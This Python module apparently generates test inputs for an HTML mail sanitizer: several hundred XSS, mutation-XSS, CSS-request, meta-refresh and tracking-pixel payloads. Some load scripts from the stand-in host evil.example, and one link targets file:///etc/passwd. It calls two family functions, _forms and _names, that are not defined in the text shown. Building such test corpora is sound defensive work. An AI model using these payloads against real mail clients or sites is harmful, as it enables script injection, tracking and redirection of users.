# ruff: noqa: E501 - an attack is easier to read whole
"""Ways in which HTML of a mail runs a script, asks another server or leads somebody away; each is an attack of its own.

Written after the families of the known cheat sheets: what each does where nothing stops it is to write `RAN` on the
console, or to ask evil.example for something. Made by families, so that none is forgotten: every attack with its name.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from urllib.parse import quote

EVIL = "http://evil.example"
RUN = "console.log('RAN')"
ENTITIES = "".join(f"&#{ord(letter)};" for letter in RUN)
HEX = "".join(f"&#x{ord(letter):x}" + ";" for letter in RUN)
SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{RUN}\"><script>{RUN}</script></svg>"
SVG_DATA = "data:image/svg+xml;base64," + base64.b64encode(SVG.encode()).decode()
PAGE_DATA = "data:text/html;base64," + base64.b64encode(f"<script>{RUN}</script>".encode()).decode()


def attacks() -> dict[str, str]:
    """HTML by the name of the attack; the names are all different, and so is the HTML."""
    found: dict[str, str] = {}
    for family in (
        _handlers,
        _script_elements,
        _addresses,
        _svg,
        _mathml,
        _broken_markup,
        _frames,
        _documents,
        _styles,
        _requests,
        _forms,
        _names,
    ):
        for name, html in family():
            full = f"{family.__name__[1:]}: {name}"
            assert full not in found, full
            found[full] = html
    assert len(set(found.values())) == len(found)
    return found


# --- scripts ------------------------------------------------------------------------------------------------------


def _handlers() -> Iterator[tuple[str, str]]:
    """Event handlers that fire by themselves, or by moving, clicking and typing."""
    by_itself = {
        "img onerror": "<img src=x onerror={}>",
        "img onload": "<img src='data:image/gif;base64,R0lGODlhAQABAAAAACw=' onload={}>",
        "body onload": "<body onload={}>",
        "body onpageshow": "<body onpageshow={}>",
        "body onresize": "<body onresize={}>",
        "body onhashchange": "<body onhashchange={}><a href=#x>x</a>",
        "body onfocus": "<body onfocus={}>",
        "body onscroll": "<body onscroll={}><p style='height:9000px'>x<input autofocus>",
        "frameset onload": "<frameset onload={}>",
        "svg onload": "<svg onload={}>",
        "svg slash onload": "<svg/onload={}>",
        "svg animate onbegin": "<svg><animate onbegin={} attributeName=x dur=1s>",
        "svg set onbegin": "<svg><set onbegin={} attributeName=x>",
        "svg animate onend": "<svg><animate onend={} attributeName=x dur=1ms>",
        "svg image onerror": "<svg><image href=x onerror={}></svg>",
        "video onerror": "<video src=x onerror={}>",
        "video source onerror": "<video><source src=x onerror={}></video>",
        "audio onerror": "<audio src=x onerror={}>",
        "audio onloadstart": "<audio src=x onloadstart={}>",
        "track onerror": "<video><track default src=x onerror={}></video>",
        "iframe onload": "<iframe onload={}></iframe>",
        "object onerror": "<object data=x onerror={}></object>",
        "embed onload": "<embed src=x onload={}>",
        "input autofocus onfocus": "<input autofocus onfocus={}>",
        "select autofocus onfocus": "<select autofocus onfocus={}></select>",
        "textarea autofocus onfocus": "<textarea autofocus onfocus={}></textarea>",
        "button autofocus onfocus": "<button autofocus onfocus={}>x</button>",
        "tabindex autofocus": "<p tabindex=0 autofocus onfocus={}>x</p>",
        "input onblur": "<input onblur={} autofocus><input autofocus>",
        "marquee onstart": "<marquee onstart={}>x</marquee>",
        "marquee onfinish": "<marquee loop=1 width=0 onfinish={}>x</marquee>",
        "details ontoggle": "<details open ontoggle={}>x</details>",
        "style onload": "<style onload={}></style>",
        "link onerror": "<link rel=stylesheet href=x onerror={}>",
        "link onload": "<link rel=stylesheet href='data:text/css,' onload={}>",
        "script onerror": "<script src=x onerror={}></script>",
        "image alias": "<image src=x onerror={}>",
        "isindex": "<isindex type=image src=x onerror={}>",
        "css animation": "<style>@keyframes x{{}}</style><p style='animation-name:x' onanimationstart={}>x</p>",
        "css transition": "<p style='transition:color 1ms' ontransitionend={} autofocus tabindex=0>x</p>",
        "meter": "<meter onanimationstart={} style='animation:x 1s'>2</meter><style>@keyframes x{{}}</style>",
        "custom element": "<x-y onfocus={} autofocus tabindex=1>x</x-y>",
        "unknown element": "<xss onload={}>x</xss>",
        "popover onbeforetoggle": "<button popovertarget=p autofocus>x</button><p popover id=p onbeforetoggle={}>x</p>",
        "template handler": "<template shadowrootmode=open><img src=x onerror={}></template>",
        "dialog": "<dialog open onclose={}><form method=dialog><button autofocus>x</button></form></dialog>",
    }
    for name, html in by_itself.items():
        yield name, html.format(f'"{RUN}"')
    for event in (
        "click dblclick mousedown mouseup mouseover mouseout mouseenter mousemove pointerdown pointerup pointerover "
        "pointerenter pointermove pointerrawupdate keydown keyup keypress focusin focusout wheel contextmenu auxclick "
        "copy cut paste drag dragstart select selectstart scrollend beforeinput gotpointercapture touchstart"
    ).split():
        yield f"on{event}", f'<p on{event}="{RUN}" style="width:100%;height:600px" tabindex=0>move over me</p>'
    for name, start in {
        "upper case": "ONERROR=",
        "mixed case": "oNeRrOr=",
        "blank": "onerror =",
        "line break": "onerror\n=\n",
        "tab": "onerror\t=",
        "form feed": "onerror\x0c=",
        "slash before": "/onerror=",
        "quote before": '"onerror=',
        "backtick": "a=`onerror=",
        "null octet": "onerror\x00=",
        "twice": "src=y onerror=x onerror=",
    }.items():
        yield f"spelled with {name}", f'<img src=x {start}"{RUN}">'
    yield "entities in the value", f'<img src=x onerror="{ENTITIES}">'
    yield "hex entities in the value", f"<img src=x onerror={HEX}>"
    yield "no blank between", f'<img src="x"onerror="{RUN}">'
    yield "greater-than in a value", f'<img alt=">" src=x onerror="{RUN}">'


def _script_elements() -> Iterator[tuple[str, str]]:
    yield "plain", f"<script>{RUN}</script>"
    yield "upper case", f"<SCRIPT>{RUN}</SCRIPT>"
    yield "attributes", f"<script type=text/javascript defer>{RUN}</script>"
    yield "module", f"<script type=module>{RUN}</script>"
    yield "slash", f"<script/x>{RUN}</script>"
    yield "blank in end", f"<script>{RUN}</script >"
    yield "not closed", f"<script>{RUN}"
    yield "within itself", f"<scr<script>ipt>{RUN}</scr</script>ipt>"
    yield "taken out in the middle", f"<scri<b></b>pt>{RUN}</script>"
    yield "null octet", f"<scr\x00ipt>{RUN}</scr\x00ipt>"
    yield "double less-than", f"<<script>{RUN}//<</script>"
    yield "from elsewhere", f"<script src={EVIL}/x.js></script>"
    yield "from elsewhere without scheme", "<script src=//evil.example/x.js></script>"
    yield "from data", f"<script src='data:text/javascript,{RUN}'></script>"
    yield "from the desk", "<script src=/static/desk.js></script>"
    yield (
        "import map",
        f'<script type=importmap>{{"imports":{{"x":"{EVIL}/x.js"}}}}</script><script type=module>import "x"</script>',
    )
    yield (
        "speculation rules",
        f'<script type=speculationrules>{{"prefetch":[{{"source":"list","urls":["{EVIL}/s"]}}]}}</script>',
    )
    yield "in noscript", f"<noscript><script>{RUN}</script></noscript>"
    yield "noscript and title", f'<noscript><p title="</noscript><img src=x onerror={RUN}>">'
    yield "in a comment that ends", f"<!--><script>{RUN}</script>-->"
    yield "in a comment with a bang", f"<!-- --!><script>{RUN}</script>"
    yield "in a conditional comment", f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->"
    yield "after a revealed comment", f"<![if !mso]><script>{RUN}</script><![endif]>"
    yield "in CDATA", f"<![CDATA[<script>{RUN}</script>]]>"
    yield "after a processing instruction", f"<?xml version=1.0?><script>{RUN}</script>"
    yield "in a declaration", f"<!x><script>{RUN}</script>"
    yield "in title", f"<title></title><script>{RUN}</script>"
    yield "in textarea", f"<textarea></textarea><script>{RUN}</script>"
    yield "in xmp", f"<xmp></xmp><script>{RUN}</script>"
    yield "in noembed", f"<noembed></noembed><script>{RUN}</script>"
    yield "in noframes", f"<noframes></noframes><script>{RUN}</script>"
    yield "in a table", f"<table><script>{RUN}</script><tr><td>x</table>"
    yield "in select", f"<select><option><script>{RUN}</script></select>"
    yield "in a template", f"<template><script>{RUN}</script></template>"
    yield "in a declared shadow", f"<div><template shadowrootmode=open><script>{RUN}</script></template></div>"
    yield "after plaintext", f"<p>x<script>{RUN}</script><plaintext>"
    yield "vbscript", "<script language=vbscript>MsgBox 1</script>"
    yield "Netscape entity", f'<br size="&{{{RUN}}}">'
    yield "Netscape layer", f"<layer src={EVIL}/x.html></layer>"
    yield "XML namespace", f"<html xmlns:x><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script>"
    yield "UTF-7", "+ADw-script+AD4-console.log('RAN')+ADw-/script+AD4-"
    yield "full-width signs", f"＜script＞{RUN}＜/script＞"
    yield "overlong signs", f"\u00bcscript\u00be{RUN}\u00bc/script\u00be"


def _addresses() -> Iterator[tuple[str, str]]:
    """`javascript:` and its kin, in all spellings, where an address stands."""
    spelled = {
        "plain": f"javascript:{RUN}",
        "upper case": f"JAVASCRIPT:{RUN}",
        "mixed case": f"jAvAsCrIpT:{RUN}",
        "leading blank": f" javascript:{RUN}",
        "leading control": f"\x01javascript:{RUN}",
        "leading entity": f"&#14;javascript:{RUN}",
        "tab within": f"java\tscript:{RUN}",
        "line break within": f"java\nscript:{RUN}",
        "carriage return within": f"java\rscript:{RUN}",
        "tab entity": f"java&Tab;script:{RUN}",
        "new line entity": f"java&NewLine;script:{RUN}",
        "number entity": f"java&#9;script:{RUN}",
        "hex entity": f"java&#x0A;script:{RUN}",
        "colon entity": f"javascript&colon;{RUN}",
        "colon as number": f"javascript&#58;{RUN}",
        "long number": f"&#0000106avascript:{RUN}",
        "without semicolon": f"&#106avascript:{RUN}",
        "all as entities": "".join(f"&#{ord(letter)};" for letter in f"javascript:{RUN}"),
        "all as hex": "".join(f"&#x{ord(letter):X};" for letter in f"javascript:{RUN}"),
        "null octet": f"java\x00script:{RUN}",
        "comment": f"javascript:/**/{RUN}",
        "two slashes": f"javascript://%0a{RUN}",
        "with host": f"javascript://evil.example/%0d%0a{RUN}",
        "percent": f"javascript:{quote(RUN)}",
        "view-source": f"view-source:javascript:{RUN}",
        "feed": f"feed:javascript:{RUN}",
        "vbscript": "vbscript:MsgBox(1)",
        "livescript": f"livescript:{RUN}",
        "mocha": f"mocha:{RUN}",
        "data page": PAGE_DATA,
        "data page plain": f"data:text/html,<script>{RUN}</script>",
        "data without type": f"data:,<script>{RUN}</script>",
        "data XHTML": f"data:application/xhtml+xml,<html xmlns='http://www.w3.org/1999/xhtml'><script>{RUN}</script></html>",
        "data XML": "data:text/xml,<x/>",
        "data SVG": SVG_DATA,
        "blob": "blob:http://evil.example/x",
        "filesystem": "filesystem:http://evil.example/x",
        "file": "file:///etc/passwd",
        "jar": "jar:http://evil.example/x!/",
        "about": "about:blank",
        "unknown scheme": "evil:x",
        "tel": "tel:+1",
        "sms": "sms:+1",
        "message": "ms-word:ofe|u|http://evil.example/x.docx",
        "search": "search-ms:query=x&crumb=location:\\\\evil.example\\x",
    }
    for name, address in spelled.items():
        value = address.replace('"', "&quot;")
        yield f"link, {name}", f'<a href="{value}">click me</a>'
    for name in ("plain", "tab within", "data page", "data SVG", "upper case"):
        value = spelled[name].replace('"', "&quot;")
        yield f"picture, {name}", f'<img src="{value}">'
        yield f"area, {name}", f'<img usemap=#m src=x><map name=m><area href="{value}" coords=0,0,9,9></map>'
    value = spelled["plain"]
    for tag, attribute in (
        ("table", "background"), ("td", "background"), ("body", "background"), ("input type=image", "src"),
        ("input type=image", "lowsrc"), ("img", "dynsrc"), ("img", "longdesc"), ("bgsound", "src"), ("q", "cite"),
        ("blockquote", "cite"), ("ins", "cite"), ("button autofocus", "formaction"), ("object", "data"),
        ("applet", "code"), ("embed", "src"), ("frame", "src"), ("iframe", "src"), ("isindex", "action"),
        ("command", "icon"), ("html", "manifest"), ("video", "poster"), ("image", "href"), ("a", "ping"),
    ):  # fmt: skip
        yield f"{tag} {attribute}", f'<{tag} {attribute}="{value}">x'
    yield "link target top", f'<a target=_top href="{EVIL}/top">click me</a>'
    yield "link to elsewhere", f'<a href="{EVIL}/link" style="display:block;height:600px">click me</a>'
    yield "link without scheme", '<a href="//evil.example/link">click me</a>'
    yield "link with backslashes", '<a href="\\\\evil.example\\link">click me</a>'
    yield "link into the desk", '<a href="/sign-out">click me</a>'


# --- other languages within HTML -------------------------------------------------------------------------------------


def _svg() -> Iterator[tuple[str, str]]:
    yield "script", f"<svg><script>{RUN}</script></svg>"
    yield "script with entities", f"<svg><script>{ENTITIES}</script></svg>"
    yield "script href", f"<svg><script href={EVIL}/x.js /></svg>"
    yield "script xlink", f"<svg><script xlink:href='data:text/javascript,{RUN}' /></svg>"
    yield "script in CDATA", f"<svg><script><![CDATA[{RUN}]]></script></svg>"
    yield "link", f"<svg><a href='javascript:{RUN}'><text x=20 y=20>click me</text></a></svg>"
    yield "xlink", f"<svg><a xlink:href='javascript:{RUN}'><text x=20 y=20>click me</text></a></svg>"
    yield (
        "animated link",
        f"<svg><a><animate attributeName=href values='javascript:{RUN}'/><text x=9 y=20>x</text></a></svg>",
    )
    yield "set link", f"<svg><a><set attributeName=href to='javascript:{RUN}'/><text x=9 y=20>x</text></a></svg>"
    yield "animated handler", f"<svg><set attributeName=onmouseover to='{RUN}'/><rect width=900 height=900 /></svg>"
    yield "use", f"<svg><use href='{SVG_DATA}#x'/></svg>"
    yield "use from elsewhere", f"<svg><use href='{EVIL}/x.svg#x'/></svg>"
    yield "image", f"<svg><image href={EVIL}/p.png width=9 height=9 /></svg>"
    yield (
        "feImage",
        f"<svg><filter id=f><feImage href={EVIL}/p.png /></filter><rect filter=url(#f) width=9 height=9 /></svg>",
    )
    yield "filter by address", f"<svg><rect filter='url({EVIL}/f#x)' width=9 height=9 /></svg>"
    yield "mask by address", f"<svg><rect mask='url({EVIL}/m#x)' width=9 height=9 /></svg>"
    yield (
        "font face",
        f"<svg><style>@font-face{{font-family:x;src:url({EVIL}/f)}}text{{font-family:x}}</style><text y=20>x</text></svg>",
    )
    yield (
        "foreignObject",
        f"<svg><foreignObject><img xmlns='http://www.w3.org/1999/xhtml' src=x onerror=\"{RUN}\"></foreignObject></svg>",
    )
    yield "foreignObject frame", f"<svg><foreignObject><iframe src='javascript:{RUN}'></iframe></foreignObject></svg>"
    yield (
        "handler element",
        f"<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>{RUN}</handler></svg>",
    )
    yield "listener", "<svg><listener event=load handler=#x observer=x /></svg>"
    yield "desc", f'<svg><desc><img src=x onerror="{RUN}"></desc></svg>'
    yield "title", f'<svg><title><img src=x onerror="{RUN}"></title></svg>'
    yield "style breaks out", f'<svg><style><img src=x onerror="{RUN}"></style></svg>'
    yield "p breaks out", f"<svg><p><style><g title='</style><img src=x onerror=\"{RUN}\">'>"
    yield "in an object", f'<object data="{SVG_DATA}" type=image/svg+xml></object>'
    yield "in an embed", f'<embed src="{SVG_DATA}">'
    yield "in a frame", f'<iframe src="{SVG_DATA}"></iframe>'
    yield "discard", "<svg><discard begin=0s href=#x onend=console.log('RAN') /></svg>"
    yield "cursor", f"<svg><cursor id=c xlink:href={EVIL}/c /></svg>"


def _mathml() -> Iterator[tuple[str, str]]:
    """Markup that is read otherwise the second time (mXSS), mostly at the edge of MathML and SVG."""
    img = f'<img src=x onerror="{RUN}">'
    yield "link", f"<math href='javascript:{RUN}'>click me</math>"
    yield "xlink", f"<math><mi xlink:href='javascript:{RUN}'>click me</mi></math>"
    yield "maction", f"<math><maction actiontype=statusline xlink:href='javascript:{RUN}'>x</maction></math>"
    yield "annotation", f"<math><annotation-xml encoding=text/html>{img}</annotation-xml></math>"
    yield "annotation upper case", f"<math><annotation-xml encoding='TEXT/HTML'><p>{img}</p></annotation-xml></math>"
    yield "mglyph style", f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{img}'>"
    yield "mglyph comment", f"<math><mtext><mglyph><style><!--</style>{img}--></style></mglyph></mtext></math>"
    yield "malignmark", f"<math><mtext><malignmark><style><!--</style>{img}</malignmark></mtext></math>"
    yield "form twice", f"<form><math><mtext></form><form><mglyph><style></math>{img}"
    yield "style in math", f"<math><style>{img}</style></math>"
    yield "p in math", f"<math><p></p><style><!--</style>{img}--></style></math>"
    yield "svg style", f"<svg></p><style><a id='</style>{img}'>"
    yield "svg desc style", f"<svg><desc><style></desc></svg>{img}</style>"
    yield "svg annotation", f"<svg><annotation-xml><foreignObject><style><!--</style><p id='--&gt;{img}'>"
    yield "title in svg", f"<svg><title><style><!--</title>{img}--></style></svg>"
    yield "noscript in svg", f"<svg><noscript><p title='</noscript>{img}'></noscript></svg>"
    yield "select", f"<select><style></select>{img}</style>"
    yield "select keygen", f"<select><keygen>{img}"
    yield "table and caption", f"<table><caption><svg><style></caption></table>{img}"
    yield "nested tables", f"<table><td><svg><title></td></table>{img}"
    yield "template in svg", f"<svg><template><style></template></svg>{img}"
    yield "xmp", f"<xmp><p id='</xmp>{img}'>"
    yield "noembed", f"<noembed><p id='</noembed>{img}'>"
    yield "noframes", f"<noframes><p id='</noframes>{img}'>"
    yield "iframe as text", f"<iframe><p id='</iframe>{img}'>"
    yield "textarea", f"<textarea><p id='</textarea>{img}'>"
    yield "title", f"<title><p id='</title>{img}'>"
    yield "style", f"<style><p id='</style>{img}'>"
    yield "plaintext", f"<div><plaintext></div>{img}"
    yield "comment", f"<!--<p id='-->{img}'>"
    yield "listing", f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>"
    yield "backtick attribute", f"<img src=x alt='`` onerror={RUN}'>"
    yield "escaped twice", f"&amp;lt;img src=x onerror={RUN}&amp;gt;&lt;script&gt;{RUN}&lt;/script&gt;"
    yield "nested formatting", f"<b><p></b><a><table><a>{img}</table>"
    yield "deep", "<div>" * 600 + img
    yield "deep in svg", "<svg><g>" * 300 + f"<script>{RUN}</script>"
    yield "deep forms", "<form><div></form>" * 300 + img
    yield "foster parent", f"<table><style><!--</style><tr><td>{img}"


def _broken_markup() -> Iterator[tuple[str, str]]:
    """What a pattern overlooks and a browser reads."""
    yield "open tag at the end", f'<img src=x onerror="{RUN}"'
    yield "open attribute", f'<img src="x" alt="<img src=y onerror=\'{RUN}\'>'
    yield "quote in the tag", f'<img """><script>{RUN}</script>">'
    yield "no quotes", f"<img src=x:x onerror={RUN}>"
    yield "blank after less-than", f"< script>{RUN}</ script>"
    yield "slash after less-than", f"</script><script>{RUN}</script>"
    yield "end tag with handler", f'</p onclick="{RUN}">x'
    yield "question mark", f'<?p <img src=x onerror="{RUN}">'
    yield "percent", f'<% <img src=x onerror="{RUN}"> %>'
    yield "comment never ends", f'<!-- x <img src=x onerror="{RUN}">'
    yield "comment of two hyphens", f'<!--<!---><img src=x onerror="{RUN}">-->'
    yield "odd blanks", f'<img\x0csrc=x\x0conerror="{RUN}">'
    yield "vertical tab", f'<img\x0bsrc=x\x0bonerror="{RUN}">'
    yield "no-break blank", f'<img\u00a0src=x\u00a0onerror="{RUN}">'
    yield "ideographic blank", f'<img\u3000src=x onerror="{RUN}">'
    yield "left-to-right mark", f'<im\u200eg src=x onerror="{RUN}"><img src=x onerr\u200eor=x>'
    yield "line separator", f'<img src=x onerror=\u2028"{RUN}">'
    yield "long s", f"<\u017fcript>{RUN}</\u017fcript>"
    yield "Kelvin sign", f"<lin\u212a rel=stylesheet href={EVIL}/k.css>"
    yield "dotless i", f"<\u0131frame src={EVIL}/i></iframe>"
    yield "lone surrogate", f'<p>\ufffd<img src=x onerror="{RUN}">'
    yield "many attributes", "<img " + " ".join(f"a{number}=1" for number in range(2_000)) + f' src=x onerror="{RUN}">'
    yield "long attribute", f'<img alt="{"x" * 70_000}" src=x onerror="{RUN}">'
    yield "two bodies", f'<body><p>x</p></body></html><body onload="{RUN}">'
    yield "after the end", f"</body></html><script>{RUN}</script>"
    yield "head at the end", f"<p>x</p><head><script>{RUN}</script></head>"
    yield "closes our page", f"</body></html></iframe><script>{RUN}</script>"
    yield "closes a style", f"</style></head><body><script>{RUN}</script>"
    yield "template words", "{{ 7*7 }}${7*7}{% raw %}<script>" + RUN + "</script>"
    yield "namespaced tag", f'<o:p onclick="{RUN}"><svg:script>{RUN}</svg:script></o:p>'
    yield "VML", f"<v:shape style='behavior:url(#default#VML)'><v:imagedata src={EVIL}/v.png /></v:shape>"
    yield (
        "XML island",
        f"<xml id=x><a><b>&lt;script&gt;{RUN}&lt;/script&gt;</b></a></xml><span datasrc=#x datafld=b dataformatas=html>",
    )


# --- frames, documents, styles, requests ---------------------------------------------------------------------------------


def _frames() -> Iterator[tuple[str, str]]:
    yield "iframe", f"<iframe src={EVIL}/frame></iframe>"
    yield "iframe of the desk", "<iframe src=/></iframe>"
    yield "srcdoc", f'<iframe srcdoc="<script>{RUN}</script>"></iframe>'
    yield "srcdoc with entities", f'<iframe srcdoc="&lt;script&gt;{RUN}&lt;/script&gt;"></iframe>'
    yield "srcdoc with sandbox", f'<iframe sandbox=allow-scripts srcdoc="<script>{RUN}</script>"></iframe>'
    yield "iframe not closed", f"<iframe src={EVIL}/open"
    yield "iframe lazy", f"<iframe loading=lazy src={EVIL}/lazy></iframe>"
    yield "frameset", f"<frameset><frame src={EVIL}/set></frameset>"
    yield "object", f"<object data={EVIL}/object></object>"
    yield "object page", f'<object data="{PAGE_DATA}"></object>'
    yield "object with params", f"<object><param name=movie value={EVIL}/x.swf></object>"
    yield (
        "object classid",
        f"<object classid='clsid:333C7BC4-460F-11D0-BC04-0080C7055A83'><param name=DataURL value={EVIL}/x></object>",
    )
    yield "embed", f"<embed src={EVIL}/embed>"
    yield "embed allowed script", f"<embed src={EVIL}/x.swf allowscriptaccess=always>"
    yield "applet", f"<applet code=x archive={EVIL}/x.jar></applet>"
    yield "portal", f"<portal src={EVIL}/portal></portal>"
    yield "fencedframe", f"<fencedframe src={EVIL}/fence></fencedframe>"
    yield "webview", f"<webview src={EVIL}/view></webview>"
    yield "ilayer", f"<ilayer src={EVIL}/layer></ilayer>"
    yield "object falls back", f'<object data=x><iframe src="javascript:{RUN}"></iframe></object>'


def _documents() -> Iterator[tuple[str, str]]:
    """What is meant for the whole page."""
    yield "refresh", f"<meta http-equiv=refresh content='0;url={EVIL}/refresh'>"
    yield "refresh to script", f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>"
    yield "refresh to data", f"<meta http-equiv=refresh content='0;url={PAGE_DATA}'>"
    yield "refresh upper case", f"<META HTTP-EQUIV=Refresh CONTENT='0; URL={EVIL}/upper'>"
    yield "refresh in the head", f"<html><head><meta http-equiv='refresh' content='0,{EVIL}/head'></head><body>x"
    yield "set-cookie", "<meta http-equiv=set-cookie content='triaged=x'>"
    yield "policy", "<meta http-equiv=content-security-policy content=\"default-src *; script-src 'unsafe-inline'\">"
    yield "link header", f"<meta http-equiv=link content='<{EVIL}/l.css>; rel=stylesheet'>"
    yield "x-dns-prefetch", "<meta http-equiv=x-dns-prefetch-control content=on><a href=//dns.evil.example>x</a>"
    yield "charset", f"<meta charset=utf-7>+ADw-script+AD4-{RUN}+ADw-/script+AD4-"
    yield "referrer", f"<meta name=referrer content=unsafe-url><img src={EVIL}/referrer>"
    yield "base", f"<base href={EVIL}/><img src=base.png>"
    yield "base target", f"<base target=_top><a href='{EVIL}/'>click me</a>"
    yield "base script", f"<base href='javascript:/a/'><a href='#{RUN}'>click me</a>"
    yield "manifest", f"<html manifest={EVIL}/m>"
    yield "doctype entity", f"<!DOCTYPE html [<!ENTITY x SYSTEM '{EVIL}/dtd'>]><p>&x;"
    yield "doctype from elsewhere", f"<!DOCTYPE html SYSTEM '{EVIL}/x.dtd'><p>x"
    yield "stylesheet instruction", f"<?xml-stylesheet href='{EVIL}/x.css'?><p>x"
    yield "stylesheet instruction script", f"<?xml-stylesheet href='javascript:{RUN}'?><p>x"
    yield "import by namespace", "<html xmlns:x><?import namespace=x implementation=http://evil.example/x.htc>"
    yield "profile", f"<head profile={EVIL}/profile><title>x</title></head><p>x"


def _styles() -> Iterator[tuple[str, str]]:
    """Styles that ask a server, run, or cover what the desk says."""
    address = f"{EVIL}/style"
    within = {
        "background": f"background:url({address})",
        "background image": f"background-image:url('{address}')",
        "background colour and image": f"background-color:red;background:red url({address})",
        "list": f"list-style:url({address});display:list-item",
        "list image": f"list-style-image:url({address});display:list-item",
        "cursor": f"cursor:url({address}),auto",
        "content": f"content:url({address})",
        "border image": f"border-image:url({address}) 30",
        "border image source": f"border:9px solid;border-image-source:url({address})",
        "mask": f"mask:url({address})",
        "mask image": f"-webkit-mask-image:url({address})",
        "clip path": f"clip-path:url({address}#x)",
        "filter": f"filter:url({address}#x)",
        "backdrop": f"backdrop-filter:url({address}#x)",
        "shape": f"float:left;shape-outside:url({address})",
        "offset path": f"offset-path:url({address}#x)",
        "image set": f"background-image:image-set('{address}' 1x)",
        "image set by url": f"background-image:-webkit-image-set(url({address}) 1x)",
        "cross fade": f"background-image:-webkit-cross-fade(url({address}),url({address}2),50%)",
        "image function": f"background-image:image('{address}')",
        "element function": "background-image:element(#x)",
        "paint": "background-image:paint(x)",
        "variable": f"--x:url({address});background:var(--x)",
        "src function": f"background-image:src('{address}')",
        "escaped word": f"background:\\75\\72\\6c({address})",
        "escaped letter": f"background:ur\\6c ({address})",
        "comment within": f"background:/**/url/**/({address});back/**/ground:url({address})",
        "upper case": f"BACKGROUND:URL({address})",
        "entities": f"background&colon;url&lpar;{address}&rpar;",
        "expression": f"width:expression({RUN})",
        "expression with comment": f"width:exp/**/ression({RUN})",
        "expression escaped": f"width:\\65xpression({RUN})",
        "behaviour": f"behavior:url({address}.htc)",
        "binding": f"-moz-binding:url({address}.xml#x)",
        "script address": f"background:url(javascript:{RUN})",
        "data address": f"background:url({SVG_DATA})",
        "link property": f"-o-link:'javascript:{RUN}';-o-link-source:current",
        "fixed": "position:fixed;inset:0;background-color:red",
        "absolute": "position:absolute;top:-900px;left:0;width:9000px;height:9000px",
        "sticky": "position:sticky;top:0;z-index:99999",
        "negative margin": "margin-top:-900px",
        "transform": "transform:translateY(-900px) scale(90)",
        "broken off": f"color:red;}}p{{background:url({address})}}",
        "quote broken off": f"font-family:'x;background:url({address})",
        "font": f"font:12px 'x',url({address})",
        "animation": "animation:x 1s infinite",
    }  # fmt: skip
    for name, style in within.items():
        value = style.replace('"', "&quot;")
        yield f"attribute, {name}", f'<p style="{value}">x</p>'
    sheets = {
        "import": f"@import url({address});",
        "import as text": f"@import '{address}';",
        "import upper case": f"@IMPORT URL({address});",
        "import escaped": f"@\\69mport '{address}';",
        "import script": f"@import 'javascript:{RUN}';",
        "import data": f"@import 'data:text/css,p{{background:url({address})}}';",
        "font face": f"@font-face{{font-family:x;src:url({address})}}p{{font-family:x}}",
        "font face by letters": f"@font-face{{font-family:x;src:url({address});unicode-range:U+78}}p{{font-family:x}}",
        "background": f"p{{background:url({address})}}",
        "reads attributes": f"input[value^=a]{{background:url({address})}}",
        "before": f"p::before{{content:url({address})}}",
        "selection": f"p::first-line{{background:url({address})}}",
        "namespace": f"@namespace url({address});",
        "charset": f"@charset 'utf-7';+AHs-background:url({address})",
        "media": f"@media all{{p{{background:url({address})}}}}",
        "supports": f"@supports (color:red){{p{{background:url({address})}}}}",
        "property": f"@property --x{{syntax:'<url>';inherits:false;initial-value:url({address})}}p{{background:var(--x)}}",
        "counter style": f"@counter-style x{{system:cyclic;symbols:url({address})}}li{{list-style:x}}",
        "old comment": f"<!-- p{{background:url({address})}} -->",
        "ends itself": f'</style><img src=x onerror="{RUN}">',
        "view transition": f"@view-transition{{navigation:auto}}::view-transition{{background:url({address})}}",
    }
    for name, sheet in sheets.items():
        yield f"sheet, {name}", f"<style>{sheet}</style><p>x<input value=abc></p><ul><li>x</ul>"
    yield "sheet by link", f"<link rel=stylesheet href={address}>"
    yield "sheet by link with data", f"<link rel=stylesheet href='data:text/css,p{{background:url({address})}}'><p>x"
    yield "sheet in the head", f"<html><head><style>p{{background:url({address})}}</style></head><body><p>x"
    yield "presentation attribute", f"<p background={address} style>x</p><td background={address}>"
    yield "script sheet", f"<style type=text/javascript>{RUN}</style>"


def _requests() -> Iterator[tuple[str, str]]:
    """What tells the sender that the mail is read."""
    yield "picture", f"<img src={EVIL}/pixel.gif width=1 height=1>"
    yield "picture over TLS", "<img src=https://evil.example/pixel.gif>"
    yield "picture without scheme", "<img src=//evil.example/pixel.gif>"
    yield "picture with backslashes", "<img src='\\\\evil.example\\pixel.gif'>"
    yield "picture with odd slashes", "<img src='http:/\\evil.example/pixel.gif'>"
    yield "picture with tab", "<img src='htt\tp://evil.example/pixel.gif'>"
    yield "picture of the desk", "<img src=/static/mark.svg>"
    yield "picture over FTP", "<img src=ftp://evil.example/pixel.gif>"
    yield "picture over cid with host", f"<img src='cid:{EVIL}/pixel.gif'>"
    yield "srcset", f"<img srcset='{EVIL}/1.png 1x, {EVIL}/2.png 2x'>"
    yield "srcset beside src", f"<img src=x srcset={EVIL}/set.png sizes=100vw>"
    yield "picture element", f"<picture><source srcset={EVIL}/source.png><img src=x></picture>"
    yield "lowsrc", f"<img lowsrc={EVIL}/low.png>"
    yield "lazy", f"<img loading=lazy src={EVIL}/lazy.png>"
    yield "input image", f"<input type=image src={EVIL}/input.png>"
    yield "body background", f"<body background={EVIL}/body.png>"
    yield "table background", f"<table background={EVIL}/table.png><tr><td>x</table>"
    yield "cell background", f"<table><tr><td background={EVIL}/cell.png>x</table>"
    yield "head cell background", f"<table><tr><th background={EVIL}/head.png>x</table>"
    yield "video", f"<video src={EVIL}/video.mp4 autoplay></video>"
    yield "video poster", f"<video poster={EVIL}/poster.png></video>"
    yield "video source", f"<video autoplay><source src={EVIL}/source.mp4></video>"
    yield "video track", f"<video src=x><track default src={EVIL}/track.vtt></video>"
    yield "audio", f"<audio src={EVIL}/audio.mp3 autoplay></audio>"
    yield "background sound", f"<bgsound src={EVIL}/sound.mid>"
    for kind in (
        "prefetch prerender preload modulepreload preconnect dns-prefetch icon shortcut-icon apple-touch-icon "
        "manifest import next search alternate pingback compression-dictionary"
    ).split():
        rel = kind.replace("shortcut-icon", "shortcut icon")
        yield f"link {kind}", f"<link rel='{rel}' as=image href={EVIL}/{kind}>"
